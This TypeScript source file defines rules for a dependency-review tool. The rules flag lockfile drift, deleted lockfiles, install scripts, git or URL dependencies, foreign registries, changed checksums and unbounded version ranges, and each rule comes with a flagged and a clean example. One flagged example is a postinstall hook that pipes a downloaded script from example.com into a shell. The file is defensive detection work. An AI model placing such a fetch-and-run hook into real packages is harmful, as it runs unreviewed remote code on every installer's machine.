/** Every rule of this specialist: why it matters, what to do, one flagged and one clean example, and what it does not see. */
import type { Rule } from '@weir/specialist-kit';

const ECOSYSTEM_LIST = 'npm, yarn, pnpm, bun, uv, Poetry, PDM, Pipenv, Cargo, Go, Bundler, Composer, NuGet, Mix and pub';

export const MANIFEST_WITHOUT_LOCKFILE: Rule = {
  id: 'dependencies/manifest-without-lockfile',
  title: 'The lockfile does not carry the change of the manifest',
  severity: 'major',
  category: 'dependencies',
  why: 'A strict install (`npm ci`, `cargo build --locked`, `uv sync --locked`) fails, and a lenient one picks versions that nobody reviewed.',
  fix: 'Run the package manager once, and commit the lockfile together with the manifest.',
  bad: 'package.json       +    "left-pad": "^1.3.0"\npackage-lock.json  (not changed)',
  good: 'package.json       +    "left-pad": "^1.3.0"\npackage-lock.json  +        "left-pad": "^1.3.0"',
  limits: `Reads ${ECOSYSTEM_LIST}. Compares data, so scripts, order and formatting do not count. Where no lockfile exists nothing is claimed. In a bare diff the lockfile cannot be seen: the manifest is reported as partially read. A removed entry is only judged where the lockfile repeats ranges or hashes the manifest. Examples, templates and test projects are left out.`,
  equivalent: [],
};

export const LOCKFILE_WITHOUT_MANIFEST: Rule = {
  id: 'dependencies/lockfile-without-manifest',
  title: 'The lockfile records ranges that the manifest does not ask for',
  severity: 'major',
  category: 'dependencies',
  why: 'The lockfile was made from another manifest than the one that is merged; a strict install fails or prunes what the lockfile adds.',
  fix: 'Commit the manifest that belongs to the lockfile, or write the lockfile again from the manifest as it is.',
  bad: 'package-lock.json  packages[""].dependencies  +  "left-pad": "^1.3.0"\npackage.json       (no left-pad)',
  good: 'package-lock.json  packages["node_modules/left-pad"]  +  "version": "1.3.1"\npackage.json       "left-pad": "^1.3.0"',
  limits:
    'Compares the ranges that package-lock.json (versions 2 and 3), npm-shrinkwrap.json, pnpm-lock.yaml and bun.lock repeat for each member. An update of versions alone is never drift. Needs the whole files, so a bare diff shows nothing of it.',
  equivalent: [],
};

export const LOCKFILE_DELETED: Rule = {
  id: 'dependencies/lockfile-deleted',
  title: 'The lockfile is deleted while its manifest stays',
  severity: 'minor',
  category: 'dependencies',
  why: 'From now on every install picks its own versions, and checksums are no longer compared.',
  fix: 'Keep the lockfile, or say in the change why the project gives it up.',
  bad: 'deleted: package-lock.json\nkept:    package.json',
  good: 'deleted: package-lock.json\nadded:   pnpm-lock.yaml',
  limits:
    'Quiet when another lockfile of the same package manager family stands beside it or in a folder above. In a bare diff the file is reported as partially read.',
  equivalent: [],
};

export const INSTALL_SCRIPT: Rule = {
  id: 'dependencies/install-script',
  title: 'A script runs on install',
  severity: 'major',
  category: 'security',
  why: 'Install scripts run with the rights of whoever installs, on every machine and in CI, before any code is looked at.',
  fix: 'Do without the script, or review what it runs; prefer a prebuilt package, and keep build permissions to the packages that need them.',
  bad: '"scripts": {\n  "postinstall": "curl -s https://example.com/setup.sh | sh"\n}',
  good: '"scripts": {\n  "build": "tsc"\n}',
  limits:
    'Sees preinstall, install and postinstall of package.json, `hasInstallScript` of package-lock.json, `requiresBuild` of pnpm-lock.yaml, and build permissions of pnpm, bun and allow-scripts. prepare runs for the project itself and git dependencies only, so it counts only when its command downloads or decodes code. Scripts of Python, Ruby or Rust packages are not seen.',
  equivalent: [],
};

export const GIT_OR_URL_DEPENDENCY: Rule = {
  id: 'dependencies/git-or-url-dependency',
  title: 'A dependency comes from outside its registry',
  severity: 'major',
  category: 'security',
  why: 'Such a source has no immutable versions: what it serves tomorrow may differ, and advisories and audits do not cover it.',
  fix: 'Use a released version from the registry. Where that is not possible, name a whole commit id over https or ssh.',
  bad: '"left-pad": "git+https://github.com/example/left-pad.git#main"',
  good: '"left-pad": "1.3.0"',
  limits:
    'An unencrypted URL is major, a moving git reference, an archive or a path outside the repository minor, a whole commit id a note. `workspace:`, `link:`, `npm:` and paths inside the repository are fine. Computed sources are not seen. Only entries that the change adds or alters count.',
  equivalent: [],
};

export const LOCKFILE_FOREIGN_REGISTRY: Rule = {
  id: 'dependencies/lockfile-foreign-registry',
  title: 'A lockfile entry points to another place than the rest',
  severity: 'major',
  category: 'security',
  why: 'Installs follow the lockfile, so an entry edited by hand installs code from a place that nobody chose; reviews rarely look there.',
  fix: 'Write the lockfile again with the package manager and the configured registry, and compare.',
  bad: '"resolved": "https://registry.example.net/left-pad/-/left-pad-1.3.0.tgz"',
  good: '"resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"',
  limits:
    'Compares hosts with those that the lockfile used before, or that most of its entries use. A whole move to another registry is quiet. Sources of poetry.lock, composer.lock and Gemfile.lock are not read. A file with lines that a bare diff does not show is judged by what it shows.',
  equivalent: ['lockfile-lint/validate-host', 'lockfile-lint/validate-https'],
};

export const LOCKFILE_INTEGRITY: Rule = {
  id: 'dependencies/lockfile-integrity',
  title: 'A checksum in the lockfile changes without a new version',
  severity: 'blocker',
  category: 'security',
  why: 'Registries never change a published version. Another checksum for the same version means that other code would be installed.',
  fix: 'Restore the entry, clear the cache, and let the package manager write the lockfile again; ask where the checksum came from.',
  bad: '      "version": "1.3.0",\n-      "integrity": "sha512-AAAA…",\n+      "integrity": "sha512-BBBB…"',
  good: '-      "version": "1.3.0",\n-      "integrity": "sha512-AAAA…",\n+      "version": "1.3.1",\n+      "integrity": "sha512-BBBB…"',
  limits:
    'Reads package-lock.json, yarn.lock, pnpm-lock.yaml, bun.lock, Cargo.lock, go.sum, uv.lock, poetry.lock and pdm.lock. A changed digest of one algorithm is a blocker; a removed or weaker checksum is major. Another algorithm or yarn cache key is not compared. Packages from git, files and patches are not compared: they may change under one version.',
  equivalent: ['lockfile-lint/validate-integrity'],
};

export const UNBOUNDED_RANGE: Rule = {
  id: 'dependencies/unbounded-range',
  title: 'A range has no upper bound',
  severity: 'minor',
  category: 'dependencies',
  why: 'The next install without a lockfile takes any later major version, with whatever it breaks.',
  fix: 'Name a range with an upper bound, such as `^1.4.0`.',
  bad: '"lodash": "*"',
  good: '"lodash": "^4.17.21"',
  limits:
    'Sees `*`, `x`, an empty range and `>=` in package.json where the lockfile shows that the package comes from a registry (a workspace sibling is often `*`), `latest` everywhere, and `*` in Cargo.toml and composer.json. Peer dependencies and Python, Ruby and Dart manifests are left out: there open ranges are common practice.',
  equivalent: [],
};

export const RULES: readonly Rule[] = [
  MANIFEST_WITHOUT_LOCKFILE,
  LOCKFILE_WITHOUT_MANIFEST,
  LOCKFILE_DELETED,
  INSTALL_SCRIPT,
  GIT_OR_URL_DEPENDENCY,
  LOCKFILE_FOREIGN_REGISTRY,
  LOCKFILE_INTEGRITY,
  UNBOUNDED_RANGE,
];
